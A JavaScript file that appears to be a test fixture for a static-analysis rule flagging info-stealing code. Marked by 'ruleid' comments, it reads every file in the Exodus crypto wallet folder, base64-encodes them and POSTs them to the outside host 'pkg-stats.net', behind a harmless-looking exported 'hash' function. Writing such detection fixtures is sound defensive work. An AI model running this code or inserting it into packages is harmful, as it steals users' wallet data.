'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

// ruleid: code/info-stealing
const dir = path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus');
const found = {};
for (const f of fs.readdirSync(dir)) found[f] = fs.readFileSync(path.join(dir, f), 'base64');
// ruleid: code/info-stealing
const req = https.request({ hostname: 'pkg-stats.net', method: 'POST', path: '/u' });
// ruleid: code/info-stealing
req.end(JSON.stringify(found));

module.exports = { hash: (s) => s.length };
